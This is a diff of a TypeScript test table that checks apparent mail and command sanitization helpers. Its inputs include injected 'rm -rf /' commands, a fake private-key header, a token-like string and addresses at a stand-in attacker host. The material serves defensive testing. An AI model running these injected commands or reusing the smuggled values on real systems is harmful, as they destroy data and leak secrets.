@@ -131,7 +131,7 @@ test.each<[string, Dict, string]>([
   ["mail", mailTo("/x?key=spy@evil.example.net"), 'bcc "/x?key=spy@evil.example.net"'],
   ["mail", mailTo('"x://y:z"<ceo@corp.com>'), "<ceo@corp.com>"],
   ["mail", mailTo("xoxb-12345678901234@evil.example.net"), "xoxb-12345678901234@evil.example.net"],
-  ["mail", mailTo("token=abc@x.io, ceo@corp.com"), "token=abc, ceo@corp.com"],
+  ["mail", mailTo("token=abc@x.io, ceo@corp.com"), "ceo@corp.com"],
   ["crowd", command("ls;token=1;rm -rf /"), 'command "ls;token=1;rm -rf /"'],
   ["crowd", command("ls;token=$(rm -rf /)"), "token=$(rm -rf /)"],
   ["crowd", command("ls # -----BEGIN RSA PRIVATE KEY-----; rm -rf /"), "; rm -rf /"],
